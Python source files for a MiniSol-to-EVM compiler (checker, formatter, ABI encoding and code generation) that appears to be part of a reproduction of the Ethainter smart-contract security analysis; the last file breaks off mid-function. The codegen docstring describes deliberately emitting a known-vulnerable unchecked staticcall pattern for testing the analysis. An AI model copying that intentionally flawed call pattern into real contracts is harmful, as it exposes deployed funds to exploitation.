        if isinstance(stmt, ast.Placeholder):
            return 1
        if isinstance(stmt, ast.Block):
            return sum(self._count_placeholders(s) for s in stmt.statements)
        if isinstance(stmt, ast.If):
            count = self._count_placeholders(stmt.then_branch)
            if stmt.else_branch is not None:
                count += self._count_placeholders(stmt.else_branch)
            return count
        if isinstance(stmt, ast.While):
            return self._count_placeholders(stmt.body)
        return 0

    # ---------------------------------------------------------- statements

    def _check_block(self, block: ast.Block, scope: _Scope, fn: Optional[ast.FunctionDef]) -> None:
        inner = _Scope(scope)
        for stmt in block.statements:
            self._check_statement(stmt, inner, fn)

    def _check_statement(self, stmt: ast.Stmt, scope: _Scope, fn: Optional[ast.FunctionDef]) -> None:
        if isinstance(stmt, ast.Block):
            self._check_block(stmt, scope, fn)
        elif isinstance(stmt, ast.VarDecl):
            if stmt.initializer is not None:
                self._check_expr(stmt.initializer, scope)
            scope.declare(stmt.name, stmt.line)
        elif isinstance(stmt, ast.Assign):
            self._check_lvalue(stmt.target, scope)
            self._check_expr(stmt.value, scope)
        elif isinstance(stmt, ast.If):
            self._check_expr(stmt.condition, scope)
            self._check_statement(stmt.then_branch, _Scope(scope), fn)
            if stmt.else_branch is not None:
                self._check_statement(stmt.else_branch, _Scope(scope), fn)
        elif isinstance(stmt, ast.While):
            self._check_expr(stmt.condition, scope)
            self._check_statement(stmt.body, _Scope(scope), fn)
        elif isinstance(stmt, ast.Require):
            self._check_expr(stmt.condition, scope)
        elif isinstance(stmt, ast.Emit):
            event = self.events.get(stmt.name)
            if event is None:
                raise CheckError("unknown event %r" % stmt.name, stmt.line)
            if len(stmt.args) != len(event.params):
                raise CheckError(
                    "event %r expects %d argument(s), got %d"
                    % (stmt.name, len(event.params), len(stmt.args)),
                    stmt.line,
                )
            for arg in stmt.args:
                self._check_expr(arg, scope)
        elif isinstance(stmt, ast.Return):
            if stmt.value is not None:
                self._check_expr(stmt.value, scope)
                if fn is not None and fn.return_type is None and not fn.is_constructor:
                    raise CheckError(
                        "function %r returns a value but declares no return type" % fn.name,
                        stmt.line,
                    )
        elif isinstance(stmt, ast.Placeholder):
            if not self.in_modifier:
                raise CheckError("'_;' is only allowed inside modifiers", stmt.line)
        elif isinstance(stmt, ast.ExprStmt):
            self._check_expr(stmt.expr, scope)
        else:  # pragma: no cover
            raise CheckError("unknown statement %r" % stmt, getattr(stmt, "line", 0))

    def _check_lvalue(self, target: ast.Expr, scope: _Scope) -> None:
        if isinstance(target, ast.Identifier):
            if scope.is_defined(target.name):
                return
            var = self.state_vars.get(target.name)
            if var is None:
                raise CheckError("assignment to undeclared %r" % target.name, target.line)
            if isinstance(var.var_type, (ast.MappingType, ast.ArrayType)):
                raise CheckError(
                    "cannot assign to %r without an index" % target.name, target.line
                )
            return
        if isinstance(target, ast.IndexAccess):
            depth = 0
            base = target
            while isinstance(base, ast.IndexAccess):
                self._check_expr(base.index, scope)
                depth += 1
                base = base.base
            if not isinstance(base, ast.Identifier):
                raise CheckError("invalid indexed assignment target", target.line)
            var = self.state_vars.get(base.name)
            if var is None:
                raise CheckError("indexing into unknown variable %r" % base.name, target.line)
            var_type = var.var_type
            if isinstance(var_type, ast.ArrayType):
                if depth != 1:
                    raise CheckError(
                        "array %r takes exactly one index" % base.name, target.line
                    )
                return
            for _ in range(depth):
                if not isinstance(var_type, ast.MappingType):
                    raise CheckError("too many indexes into %r" % base.name, target.line)
                var_type = var_type.value
            if isinstance(var_type, ast.MappingType):
                raise CheckError(
                    "partial mapping index on %r is not assignable" % base.name, target.line
                )
            return
        raise CheckError("invalid assignment target", getattr(target, "line", 0))

    # --------------------------------------------------------- expressions

    def _check_expr(self, expr: ast.Expr, scope: _Scope) -> None:
        if isinstance(expr, (ast.NumberLiteral, ast.BoolLiteral, ast.MsgSender, ast.MsgValue, ast.ThisExpr)):
            return
        if isinstance(expr, ast.Identifier):
            if scope.is_defined(expr.name):
                return
            var = self.state_vars.get(expr.name)
            if var is None:
                raise CheckError("unknown identifier %r" % expr.name, expr.line)
            if isinstance(var.var_type, (ast.MappingType, ast.ArrayType)):
                raise CheckError(
                    "%r cannot be read without an index" % expr.name, expr.line
                )
            return
        if isinstance(expr, ast.IndexAccess):
            depth = 0
            base: ast.Expr = expr
            while isinstance(base, ast.IndexAccess):
                self._check_expr(base.index, scope)
                depth += 1
                base = base.base
            if not isinstance(base, ast.Identifier):
                raise CheckError("only state mappings can be indexed", expr.line)
            var = self.state_vars.get(base.name)
            if var is None:
                raise CheckError("indexing into unknown variable %r" % base.name, expr.line)
            var_type: ast.TypeLike = var.var_type
            if isinstance(var_type, ast.ArrayType):
                if depth != 1:
                    raise CheckError(
                        "array %r takes exactly one index" % base.name, expr.line
                    )
                return
            for _ in range(depth):
                if not isinstance(var_type, ast.MappingType):
                    raise CheckError("too many indexes into %r" % base.name, expr.line)
                var_type = var_type.value
            if isinstance(var_type, ast.MappingType):
                raise CheckError("partial mapping read of %r" % base.name, expr.line)
            return
        if isinstance(expr, ast.BinaryOp):
            self._check_expr(expr.left, scope)
            self._check_expr(expr.right, scope)
            return
        if isinstance(expr, ast.UnaryOp):
            self._check_expr(expr.operand, scope)
            return
        if isinstance(expr, ast.CallExpr):
            for arg in expr.args:
                self._check_expr(arg, scope)
            # User-defined functions shadow builtins of the same name (so
            # e.g. a token contract may define its own ``transfer``).
            fn = self.functions.get(expr.name)
            if fn is None and expr.name in BUILTINS:
                arity = BUILTINS[expr.name]
                if arity is not None and len(expr.args) != arity:
                    raise CheckError(
                        "builtin %r expects %d argument(s), got %d"
                        % (expr.name, arity, len(expr.args)),
                        expr.line,
                    )
                return
            if fn is None:
                raise CheckError("unknown function %r" % expr.name, expr.line)
            if len(expr.args) != len(fn.params):
                raise CheckError(
                    "function %r expects %d argument(s), got %d"
                    % (expr.name, len(fn.params), len(expr.args)),
                    expr.line,
                )
            return
        if isinstance(expr, ast.ExternalCall):
            self._check_expr(expr.target, scope)
            if expr.value is not None:
                self._check_expr(expr.value, scope)
            for arg in expr.args:
                self._check_expr(arg, scope)
            if "(" not in expr.signature or not expr.signature.endswith(")"):
                raise CheckError("malformed call signature %r" % expr.signature, expr.line)
            return
        raise CheckError("unknown expression %r" % expr, getattr(expr, "line", 0))


def check(program: ast.Program) -> ast.Program:
    """Check ``program``; raises :class:`CheckError` on the first violation."""
    names: Set[str] = set()
    for contract in program.contracts:
        if contract.name in names:
            raise CheckError("duplicate contract %r" % contract.name, contract.line)
        names.add(contract.name)
        _ContractChecker(contract).run()
    return program
