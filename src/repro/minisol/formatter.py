"""MiniSol source formatter: AST -> canonical source text.

Used for diagnostics (printing inlined/transformed ASTs) and as a parser
round-trip oracle in the test suite: ``parse(format(parse(src)))`` must
produce a structurally identical AST.
"""

from __future__ import annotations

from typing import List

from repro.minisol import ast_nodes as ast

INDENT = "    "


def format_program(program: ast.Program) -> str:
    """Format a whole program (all contracts)."""
    return "\n".join(format_contract(contract) for contract in program.contracts)


def format_contract(contract: ast.Contract) -> str:
    """Format one contract definition."""
    lines: List[str] = ["contract %s {" % contract.name]
    for var in contract.state_vars:
        initializer = (
            " = %s" % format_expr(var.initializer) if var.initializer else ""
        )
        lines.append(INDENT + "%s %s%s;" % (var.var_type, var.name, initializer))
    for event in contract.events:
        params = ", ".join("%s %s" % (p.param_type, p.name) for p in event.params)
        lines.append(INDENT + "event %s(%s);" % (event.name, params))
    for modifier in contract.modifiers:
        params = ", ".join("%s %s" % (p.param_type, p.name) for p in modifier.params)
        lines.append(INDENT + "modifier %s(%s)" % (modifier.name, params))
        lines.extend(_format_block(modifier.body, 1))
    if contract.constructor is not None:
        params = ", ".join(
            "%s %s" % (p.param_type, p.name) for p in contract.constructor.params
        )
        lines.append(INDENT + "constructor(%s)" % params)
        lines.extend(_format_block(contract.constructor.body, 1))
    for fn in contract.functions:
        params = ", ".join("%s %s" % (p.param_type, p.name) for p in fn.params)
        header = INDENT + "function %s(%s) %s" % (fn.name, params, fn.visibility)
        for invocation in fn.modifiers:
            if invocation.args:
                header += " %s(%s)" % (
                    invocation.name,
                    ", ".join(format_expr(a) for a in invocation.args),
                )
            else:
                header += " " + invocation.name
        if fn.return_type is not None:
            header += " returns (%s)" % fn.return_type
        lines.append(header)
        lines.extend(_format_block(fn.body, 1))
    lines.append("}")
    return "\n".join(lines)


def _format_block(block: ast.Block, depth: int) -> List[str]:
    lines = [INDENT * depth + "{"]
    for stmt in block.statements:
        lines.extend(format_stmt(stmt, depth + 1))
    lines.append(INDENT * depth + "}")
    return lines


def format_stmt(stmt: ast.Stmt, depth: int = 0) -> List[str]:
    """Format one statement as indented source lines."""
    pad = INDENT * depth
    if isinstance(stmt, ast.Block):
        return _format_block(stmt, depth)
    if isinstance(stmt, ast.VarDecl):
        initializer = (
            " = %s" % format_expr(stmt.initializer) if stmt.initializer else ""
        )
        return [pad + "%s %s%s;" % (stmt.var_type, stmt.name, initializer)]
    if isinstance(stmt, ast.Assign):
        return [
            pad
            + "%s %s %s;" % (format_expr(stmt.target), stmt.op, format_expr(stmt.value))
        ]
    if isinstance(stmt, ast.If):
        lines = [pad + "if (%s)" % format_expr(stmt.condition)]
        lines.extend(format_stmt(stmt.then_branch, depth))
        if stmt.else_branch is not None:
            lines.append(pad + "else")
            lines.extend(format_stmt(stmt.else_branch, depth))
        return lines
    if isinstance(stmt, ast.While):
        lines = [pad + "while (%s)" % format_expr(stmt.condition)]
        lines.extend(format_stmt(stmt.body, depth))
        return lines
    if isinstance(stmt, ast.Require):
        return [pad + "require(%s);" % format_expr(stmt.condition)]
    if isinstance(stmt, ast.Emit):
        return [
            pad
            + "emit %s(%s);" % (stmt.name, ", ".join(format_expr(a) for a in stmt.args))
        ]
    if isinstance(stmt, ast.Return):
        if stmt.value is None:
            return [pad + "return;"]
        return [pad + "return %s;" % format_expr(stmt.value)]
    if isinstance(stmt, ast.Placeholder):
        return [pad + "_;"]
    if isinstance(stmt, ast.ExprStmt):
        return [pad + "%s;" % format_expr(stmt.expr)]
    raise TypeError("cannot format %r" % stmt)


def format_expr(expr: ast.Expr) -> str:
    """Format one expression (fully parenthesized)."""
    if isinstance(expr, ast.NumberLiteral):
        return str(expr.value)
    if isinstance(expr, ast.BoolLiteral):
        return "true" if expr.value else "false"
    if isinstance(expr, ast.Identifier):
        return expr.name
    if isinstance(expr, ast.MsgSender):
        return "msg.sender"
    if isinstance(expr, ast.MsgValue):
        return "msg.value"
    if isinstance(expr, ast.ThisExpr):
        return "this"
    if isinstance(expr, ast.IndexAccess):
        return "%s[%s]" % (format_expr(expr.base), format_expr(expr.index))
    if isinstance(expr, ast.BinaryOp):
        return "(%s %s %s)" % (format_expr(expr.left), expr.op, format_expr(expr.right))
    if isinstance(expr, ast.UnaryOp):
        return "(%s%s)" % (expr.op, format_expr(expr.operand))
    if isinstance(expr, ast.CallExpr):
        return "%s(%s)" % (expr.name, ", ".join(format_expr(a) for a in expr.args))
    if isinstance(expr, ast.ExternalCall):
        head = "delegatecall" if expr.kind == "delegatecall" else "call"
        parts = [format_expr(expr.target), '"%s"' % expr.signature]
        if expr.value is not None:
            head = "callvalue_to"
            parts.insert(1, format_expr(expr.value))
            parts[1], parts[2] = parts[2], parts[1]  # target, value, "sig"
            parts = [format_expr(expr.target), format_expr(expr.value), '"%s"' % expr.signature]
        parts.extend(format_expr(a) for a in expr.args)
        return "%s(%s)" % (head, ", ".join(parts))
    raise TypeError("cannot format %r" % expr)
