"""Minimal ABI encoding for MiniSol contracts.

All MiniSol types (``uint256``, ``address``, ``bool``) occupy one 32-byte
word, so encoding is: 4-byte selector followed by one padded word per
argument.  This matches what the compiled dispatcher decodes.
"""

from __future__ import annotations

from typing import Sequence

from repro.evm.hashing import UINT_MAX, function_selector


def encode_word(value: int) -> bytes:
    """One 32-byte big-endian word."""
    return (value & UINT_MAX).to_bytes(32, "big")


def encode_args(args: Sequence[int]) -> bytes:
    """Concatenated 32-byte words, one per argument."""
    return b"".join(encode_word(arg) for arg in args)


def encode_call(signature: str, *args: int) -> bytes:
    """Calldata for ``signature`` (e.g. ``"transfer(address,uint256)"``)."""
    selector = function_selector(signature).to_bytes(4, "big")
    return selector + encode_args(args)


def decode_word(data: bytes, index: int = 0) -> int:
    """Decode the ``index``-th 32-byte word of return data (0 if absent)."""
    chunk = data[index * 32 : index * 32 + 32]
    if not chunk:
        return 0
    return int.from_bytes(chunk.ljust(32, b"\x00"), "big")
