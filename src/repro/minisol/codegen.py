"""EVM code generation for MiniSol.

Compilation model (close to what ``solc`` emits, which matters because the
Ethainter analysis keys on these idioms):

* **Storage layout** — state variables get sequential slots; a mapping element
  ``m[k]`` (``m`` at slot ``s``) lives at ``SHA3(pad32(k) ++ pad32(s))``,
  computed through the scratch memory at ``0x00..0x3F``, exactly like
  Solidity.  Nested mappings hash again with the outer element's slot.
* **Dispatch** — the first 4 calldata bytes select a public function;
  unmatched selectors fall through to a ``STOP`` fallback (so contracts can
  receive plain value transfers).
* **Calling convention** — locals and parameters live in memory at
  statically-assigned offsets (one 32-byte word each, globally unique per
  function, so internal calls never clobber the caller's frame; direct
  recursion is therefore unsupported and rejected at compile time).  Internal
  calls pass arguments by storing into the callee's parameter slots, push a
  return address, and ``JUMP``; the callee returns by storing its result into
  the shared return slot at ``0x40`` and jumping back.
* **Modifiers** — inlined: the modifier body replaces the function body with
  ``_;`` substituted by the (next) body, and modifier parameters substituted
  by the invocation's argument expressions.
* **Guards** — ``require(cond)`` compiles to ``ISZERO/JUMPI``-guarded
  ``REVERT``, the pattern the analysis recognizes as a guard.
* **staticcall patterns** — ``staticcall_unchecked(a)`` reproduces the 0x-bug
  pattern of paper §3.5 (output written over input, no ``RETURNDATASIZE``
  check); ``staticcall_checked(a)`` adds the return-data-size check that the
  fixed Solidity compilers emit.
"""

from __future__ import annotations

import copy
from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.evm.assembler import AsmItem, DataLabel, Label, LabelRef, Op, Push, RawBytes, assemble
from repro.evm.hashing import function_selector, keccak_int
from repro.minisol import ast_nodes as ast
from repro.minisol.checker import BUILTINS, CheckError

# Memory map.
HASH_SCRATCH = 0x00  # 0x00..0x3F: mapping-slot hashing
RETURN_SLOT = 0x40  # one word: internal-call return value
LOCALS_BASE = 0x80  # locals/params, one word each, statically allocated


class CodegenError(Exception):
    """Internal code-generation failure (checked AST expected)."""


@dataclass
class FunctionLayout:
    """Static memory layout for one function's parameters and locals."""

    entry_label: str
    offsets: Dict[str, int] = field(default_factory=dict)

    def offset_of(self, name: str) -> int:
        return self.offsets[name]


class _ModifierInliner:
    """Produces a function body with all modifiers inlined."""

    def __init__(self, contract: ast.Contract):
        self.modifiers = {mod.name: mod for mod in contract.modifiers}

    def effective_body(self, fn: ast.FunctionDef) -> ast.Block:
        body: ast.Stmt = fn.body
        # The last-listed modifier wraps the body innermost.
        for invocation in reversed(fn.modifiers):
            modifier = self.modifiers[invocation.name]
            substitution = {
                param.name: arg
                for param, arg in zip(modifier.params, invocation.args)
            }
            wrapped = self._substitute(copy.deepcopy(modifier.body), substitution, body)
            body = wrapped
        if isinstance(body, ast.Block):
            return body
        return ast.Block(statements=[body])

    def _substitute(
        self, stmt: ast.Stmt, mapping: Dict[str, ast.Expr], inner: ast.Stmt
    ) -> ast.Stmt:
        if isinstance(stmt, ast.Placeholder):
            return inner
        if isinstance(stmt, ast.Block):
            stmt.statements = [
                self._substitute(child, mapping, inner) for child in stmt.statements
            ]
            return stmt
        if isinstance(stmt, ast.If):
            stmt.condition = self._substitute_expr(stmt.condition, mapping)
            stmt.then_branch = self._substitute(stmt.then_branch, mapping, inner)
            if stmt.else_branch is not None:
                stmt.else_branch = self._substitute(stmt.else_branch, mapping, inner)
            return stmt
        if isinstance(stmt, ast.While):
            stmt.condition = self._substitute_expr(stmt.condition, mapping)
            stmt.body = self._substitute(stmt.body, mapping, inner)
            return stmt
        if isinstance(stmt, ast.Require):
            stmt.condition = self._substitute_expr(stmt.condition, mapping)
            return stmt
        if isinstance(stmt, ast.Emit):
            stmt.args = [self._substitute_expr(a, mapping) for a in stmt.args]
            return stmt
        if isinstance(stmt, ast.VarDecl):
            if stmt.initializer is not None:
                stmt.initializer = self._substitute_expr(stmt.initializer, mapping)
            return stmt
        if isinstance(stmt, ast.Assign):
            stmt.target = self._substitute_expr(stmt.target, mapping)
            stmt.value = self._substitute_expr(stmt.value, mapping)
            return stmt
        if isinstance(stmt, ast.Return):
            if stmt.value is not None:
                stmt.value = self._substitute_expr(stmt.value, mapping)
            return stmt
        if isinstance(stmt, ast.ExprStmt):
            stmt.expr = self._substitute_expr(stmt.expr, mapping)
            return stmt
        return stmt

    def _substitute_expr(self, expr: ast.Expr, mapping: Dict[str, ast.Expr]) -> ast.Expr:
        if isinstance(expr, ast.Identifier) and expr.name in mapping:
            return copy.deepcopy(mapping[expr.name])
        if isinstance(expr, ast.IndexAccess):
            expr.base = self._substitute_expr(expr.base, mapping)
            expr.index = self._substitute_expr(expr.index, mapping)
            return expr
        if isinstance(expr, ast.BinaryOp):
            expr.left = self._substitute_expr(expr.left, mapping)
            expr.right = self._substitute_expr(expr.right, mapping)
            return expr
        if isinstance(expr, ast.UnaryOp):
            expr.operand = self._substitute_expr(expr.operand, mapping)
            return expr
        if isinstance(expr, ast.CallExpr):
            expr.args = [self._substitute_expr(a, mapping) for a in expr.args]
            return expr
        if isinstance(expr, ast.ExternalCall):
            expr.target = self._substitute_expr(expr.target, mapping)
            if expr.value is not None:
                expr.value = self._substitute_expr(expr.value, mapping)
            expr.args = [self._substitute_expr(a, mapping) for a in expr.args]
            return expr
        return expr


class ContractCodegen:
    """Generates runtime and init bytecode for one checked contract."""

    def __init__(self, contract: ast.Contract):
        self.contract = contract
        self.state_vars = {var.name: var for var in contract.state_vars}
        self.functions = {fn.name: fn for fn in contract.functions}
        self.inliner = _ModifierInliner(contract)
        self.layouts: Dict[str, FunctionLayout] = {}
        self.effective_bodies: Dict[str, ast.Block] = {}
        self._label_counter = 0
        self._next_local = LOCALS_BASE
        self.call_buffer = LOCALS_BASE  # fixed up after layout
        self._current: Optional[str] = None  # function being compiled
        self._call_stack: List[str] = []  # for recursion detection

    # ------------------------------------------------------------- helpers

    def _fresh_label(self, hint: str) -> str:
        self._label_counter += 1
        return "%s_%d" % (hint, self._label_counter)

    def _allocate_layouts(self) -> None:
        items = list(self.contract.functions)
        if self.contract.constructor is not None:
            items.append(self.contract.constructor)
        for fn in items:
            layout = FunctionLayout(entry_label="fn_%s" % fn.name)
            body = self.inliner.effective_body(fn)
            self.effective_bodies[fn.name] = body
            for param in fn.params:
                layout.offsets[param.name] = self._next_local
                self._next_local += 32
            for name in self._collect_locals(body):
                if name not in layout.offsets:
                    layout.offsets[name] = self._next_local
                    self._next_local += 32
            self.layouts[fn.name] = layout
        self.call_buffer = self._next_local

    def _collect_locals(self, stmt: ast.Stmt) -> List[str]:
        names: List[str] = []
        if isinstance(stmt, ast.VarDecl):
            names.append(stmt.name)
        elif isinstance(stmt, ast.Block):
            for child in stmt.statements:
                names.extend(self._collect_locals(child))
        elif isinstance(stmt, ast.If):
            names.extend(self._collect_locals(stmt.then_branch))
            if stmt.else_branch is not None:
                names.extend(self._collect_locals(stmt.else_branch))
        elif isinstance(stmt, ast.While):
            names.extend(self._collect_locals(stmt.body))
        return names

    # ------------------------------------------------------------ emission

    def compile_runtime(self) -> bytes:
        """Runtime bytecode: dispatcher + public wrappers + function bodies."""
        if not self.layouts:
            self._allocate_layouts()
        items: List[AsmItem] = []
        public = [fn for fn in self.contract.functions if fn.is_public]

        # Dispatcher: selector = calldata[0:4].
        items.append(Push(0))
        items.append(Op("CALLDATALOAD"))
        items.append(Push(224))
        items.append(Op("SHR"))
        for fn in public:
            items.append(Op("DUP1"))
            items.append(Push(function_selector(fn.signature)))
            items.append(Op("EQ"))
            items.append(LabelRef("pub_%s" % fn.name))
            items.append(Op("JUMPI"))
        items.append(Op("STOP"))  # fallback: accept plain transfers

        # Public wrappers.
        for fn in public:
            layout = self.layouts[fn.name]
            items.append(Label("pub_%s" % fn.name))
            for index, param in enumerate(fn.params):
                items.append(Push(4 + 32 * index))
                items.append(Op("CALLDATALOAD"))
                items.append(Push(layout.offsets[param.name]))
                items.append(Op("MSTORE"))
            return_label = self._fresh_label("ret_pub_%s" % fn.name)
            items.append(LabelRef(return_label))
            items.append(LabelRef(layout.entry_label))
            items.append(Op("JUMP"))
            items.append(Label(return_label))
            if fn.return_type is not None:
                items.append(Push(RETURN_SLOT))
                items.append(Op("MLOAD"))
                items.append(Push(0))
                items.append(Op("MSTORE"))
                items.append(Push(32))
                items.append(Push(0))
                items.append(Op("RETURN"))
            else:
                items.append(Op("STOP"))

        # Function bodies (all functions, public and internal).
        for fn in self.contract.functions:
            items.extend(self._compile_function(fn))

        return assemble(items)

    def compile_init(self, runtime: bytes) -> bytes:
        """Init bytecode: run initializers + constructor, then return runtime.

        Constructor arguments are ABI-encoded and appended to the init code by
        the deployer (see :meth:`CompiledContract.init_with_args`); the
        prelude copies them from the code tail into the constructor's
        parameter slots.
        """
        if not self.layouts:
            self._allocate_layouts()
        items: List[AsmItem] = []
        ctor = self.contract.constructor

        if ctor is not None and ctor.params:
            layout = self.layouts["constructor"]
            count = len(ctor.params)
            for index, param in enumerate(ctor.params):
                items.append(Push(32))
                items.append(Op("CODESIZE"))
                items.append(Push(32 * (count - index)))
                items.append(Op("SWAP1"))
                items.append(Op("SUB"))
                items.append(Push(layout.offsets[param.name]))
                items.append(Op("CODECOPY"))

        # State variable initializers.
        for var in self.contract.state_vars:
            if var.initializer is None:
                continue
            self._current = "constructor" if ctor is not None else None
            items.extend(self._expr(var.initializer))
            items.append(Push(var.slot))
            items.append(Op("SSTORE"))

        # Constructor body, compiled inline (no call protocol needed).
        if ctor is not None:
            self._current = "constructor"
            self._call_stack = ["constructor"]
            body = self.effective_bodies["constructor"]
            exit_label = self._fresh_label("ctor_exit")
            items.extend(self._statement(body, exit_label=exit_label, inline=True))
            items.append(Label(exit_label))

        # Copy runtime to memory and return it.
        items.append(Push(len(runtime)))
        items.append(LabelRef("runtime_data"))
        items.append(Push(0))
        items.append(Op("CODECOPY"))
        items.append(Push(len(runtime)))
        items.append(Push(0))
        items.append(Op("RETURN"))
        items.append(DataLabel("runtime_data"))
        items.append(RawBytes(runtime))
        return assemble(items)

    # ----------------------------------------------------------- functions

    def _compile_function(self, fn: ast.FunctionDef) -> List[AsmItem]:
        layout = self.layouts[fn.name]
        self._current = fn.name
        self._call_stack = [fn.name]
        items: List[AsmItem] = [Label(layout.entry_label)]
        body = self.effective_bodies[fn.name]
        items.extend(self._statement(body, exit_label=None, inline=False))
        # Implicit return: zero the return slot and jump back.
        items.append(Push(0))
        items.append(Push(RETURN_SLOT))
        items.append(Op("MSTORE"))
        items.append(Op("JUMP"))  # pops the return address
        return items

    # ---------------------------------------------------------- statements

    def _statement(
        self, stmt: ast.Stmt, exit_label: Optional[str], inline: bool
    ) -> List[AsmItem]:
        """Compile one statement.

        ``inline`` is True for constructor bodies (no return-address on the
        stack; ``return`` jumps to ``exit_label`` instead).
        """
        items: List[AsmItem] = []
        if isinstance(stmt, ast.Block):
            for child in stmt.statements:
                items.extend(self._statement(child, exit_label, inline))
            return items
        if isinstance(stmt, ast.VarDecl):
            offset = self.layouts[self._current].offset_of(stmt.name)
            if stmt.initializer is not None:
                items.extend(self._expr(stmt.initializer))
            else:
                items.append(Push(0))
            items.append(Push(offset))
            items.append(Op("MSTORE"))
            return items
        if isinstance(stmt, ast.Assign):
            value: ast.Expr = stmt.value
            if stmt.op in ("+=", "-="):
                value = ast.BinaryOp(
                    line=stmt.line,
                    op=stmt.op[0],
                    left=copy.deepcopy(stmt.target),
                    right=stmt.value,
                )
            items.extend(self._expr(value))
            items.extend(self._store_lvalue(stmt.target))
            return items
        if isinstance(stmt, ast.If):
            else_label = self._fresh_label("else")
            end_label = self._fresh_label("endif")
            items.extend(self._expr(stmt.condition))
            items.append(Op("ISZERO"))
            items.append(LabelRef(else_label))
            items.append(Op("JUMPI"))
            items.extend(self._statement(stmt.then_branch, exit_label, inline))
            items.append(LabelRef(end_label))
            items.append(Op("JUMP"))
            items.append(Label(else_label))
            if stmt.else_branch is not None:
                items.extend(self._statement(stmt.else_branch, exit_label, inline))
            items.append(Label(end_label))
            return items
        if isinstance(stmt, ast.While):
            head_label = self._fresh_label("while")
            end_label = self._fresh_label("endwhile")
            items.append(Label(head_label))
            items.extend(self._expr(stmt.condition))
            items.append(Op("ISZERO"))
            items.append(LabelRef(end_label))
            items.append(Op("JUMPI"))
            items.extend(self._statement(stmt.body, exit_label, inline))
            items.append(LabelRef(head_label))
            items.append(Op("JUMP"))
            items.append(Label(end_label))
            return items
        if isinstance(stmt, ast.Emit):
            # LOG1 with the event signature hash as the topic and the
            # ABI-encoded arguments as data, like solc.
            event = next(e for e in self.contract.events if e.name == stmt.name)
            buffer = self.call_buffer
            for index, arg in enumerate(stmt.args):
                items.extend(self._expr(arg))
                items.append(Push(buffer + 32 * index))
                items.append(Op("MSTORE"))
            items.append(Push(keccak_int(event.signature.encode("ascii"))))
            items.append(Push(32 * len(stmt.args)))
            items.append(Push(buffer))
            items.append(Op("LOG1"))
            return items
        if isinstance(stmt, ast.Require):
            ok_label = self._fresh_label("require_ok")
            items.extend(self._expr(stmt.condition))
            items.append(LabelRef(ok_label))
            items.append(Op("JUMPI"))
            items.append(Push(0))
            items.append(Push(0))
            items.append(Op("REVERT"))
            items.append(Label(ok_label))
            return items
        if isinstance(stmt, ast.Return):
            if stmt.value is not None:
                items.extend(self._expr(stmt.value))
            else:
                items.append(Push(0))
            items.append(Push(RETURN_SLOT))
            items.append(Op("MSTORE"))
            if inline:
                items.append(LabelRef(exit_label))
                items.append(Op("JUMP"))
            else:
                items.append(Op("JUMP"))  # return address is on the stack
            return items
        if isinstance(stmt, ast.ExprStmt):
            produced = self._expr(stmt.expr, as_statement=True)
            items.extend(produced.items if isinstance(produced, _ExprResult) else produced)
            if isinstance(produced, _ExprResult) and produced.pushes_value:
                items.append(Op("POP"))
            return items
        if isinstance(stmt, ast.Placeholder):  # pragma: no cover - inlined away
            raise CodegenError("placeholder outside modifier inlining")
        raise CodegenError("cannot compile statement %r" % stmt)

    def _store_lvalue(self, target: ast.Expr) -> List[AsmItem]:
        """Emit code that stores the value on the stack top into ``target``."""
        items: List[AsmItem] = []
        if isinstance(target, ast.Identifier):
            layout = self.layouts.get(self._current) if self._current else None
            if layout is not None and target.name in layout.offsets:
                items.append(Push(layout.offset_of(target.name)))
                items.append(Op("MSTORE"))
                return items
            var = self.state_vars[target.name]
            items.append(Push(var.slot))
            items.append(Op("SSTORE"))
            return items
        if isinstance(target, ast.IndexAccess):
            items.extend(self._mapping_slot(target))
            items.append(Op("SSTORE"))
            return items
        raise CodegenError("invalid lvalue %r" % target)

    # --------------------------------------------------------- expressions

    def _expr(self, expr: ast.Expr, as_statement: bool = False):
        """Compile an expression; leaves exactly one value on the stack.

        When ``as_statement`` is true, returns an :class:`_ExprResult` so the
        caller knows whether a value must be popped.
        """
        items = self._expr_items(expr)
        if as_statement:
            pushes = not (
                isinstance(expr, ast.CallExpr)
                and expr.name in ("selfdestruct",)
            )
            # Internal void function calls also leave a (zero) return value,
            # which the statement wrapper pops.
            return _ExprResult(items=items, pushes_value=pushes)
        return items

    def _expr_items(self, expr: ast.Expr) -> List[AsmItem]:
        items: List[AsmItem] = []
        if isinstance(expr, ast.NumberLiteral):
            items.append(Push(expr.value))
            return items
        if isinstance(expr, ast.BoolLiteral):
            items.append(Push(1 if expr.value else 0))
            return items
        if isinstance(expr, ast.MsgSender):
            items.append(Op("CALLER"))
            return items
        if isinstance(expr, ast.MsgValue):
            items.append(Op("CALLVALUE"))
            return items
        if isinstance(expr, ast.ThisExpr):
            items.append(Op("ADDRESS"))
            return items
        if isinstance(expr, ast.Identifier):
            layout = self.layouts.get(self._current) if self._current else None
            if layout is not None and expr.name in layout.offsets:
                items.append(Push(layout.offset_of(expr.name)))
                items.append(Op("MLOAD"))
                return items
            var = self.state_vars[expr.name]
            items.append(Push(var.slot))
            items.append(Op("SLOAD"))
            return items
        if isinstance(expr, ast.IndexAccess):
            items.extend(self._mapping_slot(expr))
            items.append(Op("SLOAD"))
            return items
        if isinstance(expr, ast.BinaryOp):
            return self._binary(expr)
        if isinstance(expr, ast.UnaryOp):
            if expr.op == "!":
                items.extend(self._expr_items(expr.operand))
                items.append(Op("ISZERO"))
                return items
            if expr.op == "-":
                items.extend(self._expr_items(expr.operand))
                items.append(Push(0))
                items.append(Op("SUB"))
                return items
            raise CodegenError("unknown unary operator %r" % expr.op)
        if isinstance(expr, ast.CallExpr):
            if expr.name in self.functions:
                return self._internal_call(expr)
            if expr.name in BUILTINS:
                return self._builtin(expr)
            return self._internal_call(expr)
        if isinstance(expr, ast.ExternalCall):
            return self._external_call(expr)
        raise CodegenError("cannot compile expression %r" % expr)

    def _binary(self, expr: ast.BinaryOp) -> List[AsmItem]:
        """Binary operators; operands are evaluated right-then-left so the
        left operand ends on top (EVM binops pop the top operand first)."""
        op = expr.op
        items: List[AsmItem] = []
        if op in ("&&", "||"):
            # Normalize both operands to 0/1, then AND/OR.  Evaluation is
            # non-short-circuiting (documented MiniSol semantics).
            items.extend(self._expr_items(expr.left))
            items.append(Op("ISZERO"))
            items.append(Op("ISZERO"))
            items.extend(self._expr_items(expr.right))
            items.append(Op("ISZERO"))
            items.append(Op("ISZERO"))
            items.append(Op("AND" if op == "&&" else "OR"))
            return items
        items.extend(self._expr_items(expr.right))
        items.extend(self._expr_items(expr.left))
        simple = {
            "+": "ADD",
            "-": "SUB",
            "*": "MUL",
            "/": "DIV",
